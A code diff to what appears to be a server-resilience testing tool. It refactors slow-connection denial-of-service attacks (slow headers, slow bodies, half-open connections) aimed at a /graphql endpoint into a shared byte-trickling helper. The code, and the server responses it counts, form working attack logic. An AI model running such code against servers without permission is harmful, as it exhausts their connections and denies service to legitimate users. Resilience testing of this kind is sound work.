@@ -17,6 +17,17 @@ async def _until_closed(target: Target, reader: asyncio.StreamReader) -> None:
     target.counts[f"answered {told[9:12].decode(errors='replace')}" if told else "ended without a word"] += 1
 
 
+async def _trickle(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, byte: bytes) -> None:
+    """Send the byte again and again until the server ends the connection."""
+    closed = asyncio.ensure_future(_until_closed(target, reader))
+    try:
+        while not closed.done():
+            writer.write(byte)
+            await asyncio.wait((closed,), timeout=PAUSE)
+    finally:
+        closed.cancel()
+
+
 @attack()
 async def half_open(target: Target) -> None:
     """Open connections and send nothing."""
@@ -37,10 +48,7 @@ async def slow_headers(target: Target) -> None:
         async with target.connected() as (reader, writer):
             target.counts["opened"] += 1
             writer.write(b"GET /graphql HTTP/1.1\r\nx-slow: ")
-            closed = asyncio.ensure_future(_until_closed(target, reader))
-            while not closed.done():
-                writer.write(b"a")
-                await asyncio.wait((closed,), timeout=PAUSE)
+            await _trickle(target, reader, writer, b"a")
 
     await target.many(target.size, one)
 
@@ -53,10 +61,7 @@ async def slow_bodies(target: Target) -> None:
         async with target.connected() as (reader, writer):
             target.counts["opened"] += 1
             writer.write(HEAD + b"content-length: 900000\r\n\r\n")
-            closed = asyncio.ensure_future(_until_closed(target, reader))
-            while not closed.done():
-                writer.write(b" ")
-                await asyncio.wait((closed,), timeout=PAUSE)
+            await _trickle(target, reader, writer, b" ")
 
     await target.many(target.size, one)
 
